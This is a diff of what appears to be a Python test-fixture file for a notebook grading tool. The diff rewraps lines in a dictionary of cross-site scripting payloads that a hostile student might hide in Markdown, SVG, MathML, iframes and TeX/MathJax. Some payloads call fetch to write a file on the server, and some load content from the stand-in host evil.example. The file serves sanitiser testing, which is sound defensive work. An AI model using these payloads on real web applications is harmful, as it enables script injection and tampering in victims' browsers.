@@ -1,5 +1,6 @@
-"""What a hostile student may write where a proof is asked for: each tries to run, to fetch, or to write something in the
-browser of the teacher who opens it.  `HERE` stands for the server's address; a script that runs sets `window.hacked`."""
+"""What a hostile student may write where a proof is asked for: each tries to run, to fetch, or to write something in
+the browser of the teacher who opens it.  `HERE` stands for the server's address; a script that runs sets
+`window.hacked`."""
 
 RUN = "window.hacked=1;alert(1);fetch('HERE/api/contents/hacked.txt',{method:'PUT'})"
 FETCH = "https://evil.example/"
@@ -29,7 +30,8 @@ PROOFS = {
     "HTML as data": "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "a PNG that is none": "![x](data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "an SVG": f"<svg onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
-    "MathML": f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\"></style></mglyph></table></mtext></math>",
+    "MathML": f"<math><mtext><table><mglyph><style><img src=x "
+              f"onerror=\"{RUN}\"></style></mglyph></table></mtext></math>",
     "a frame": f"<iframe src='{FETCH}'></iframe>",
     "a frame with a page": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
     "a frame of the server": "<iframe src='HERE/formgrader'></iframe>",
@@ -53,11 +55,13 @@ PROOFS = {
     "a title with a quote": f"[x]({FETCH} '\" onmouseover=\"{RUN}')",
     "TeX, a link": rf"$\href{{javascript:{RUN}}}{{x}}$ and \\(\href{{javascript:alert(1)}}{{x}}\\)",
     "TeX, an address": rf"$$\url{{{FETCH}}}$$",
-    "TeX, a style": rf"$\style{{background:url({FETCH}b.png)}}{{x}}$ $\class{{nbgrader_cell}}{{x}}$ $\cssId{{notebook}}{{x}}$",
+    "TeX, a style": rf"$\style{{background:url({FETCH}b.png)}}{{x}}$ $\class{{nbgrader_cell}}{{x}}$ "
+                    r"$\cssId{notebook}{x}$",
     "TeX, another file": rf"$\require{{{FETCH}x}}\includegraphics{{{FETCH}dot.png}}\unicode{{x41}}$",
     "TeX, a macro": r"$\def\x{\x\x}\x$ $\newcommand{\y}{\y\y}\y$ $\let\frac\sqrt$",
     "TeX, HTML in it": f"$a</script><img src=x onerror=\"{RUN}\">$",
-    "TeX, an environment": rf"\begin{{x}}<img src=x onerror='{RUN}'>\end{{x}}\begin{{align}}\href{{{FETCH}}}{{x}}\end{{align}}",
+    "TeX, an environment": rf"\begin{{x}}<img src=x onerror='{RUN}'>\end{{x}}"
+                          rf"\begin{{align}}\href{{{FETCH}}}{{x}}\end{{align}}",
     "TeX without its dollars": rf"\\[\href{{javascript:{RUN}}}{{x}}\\] \$\url{{{FETCH}}}\$ \begin{{equation}}",
     "TeX over several marks": r"$x *$\hr*ef{javascript:alert(1)}{x}$ **$",
     "MathJax's own scripts": f"<script type='math/tex'>\\href{{javascript:{RUN}}}{{x}}</script>"
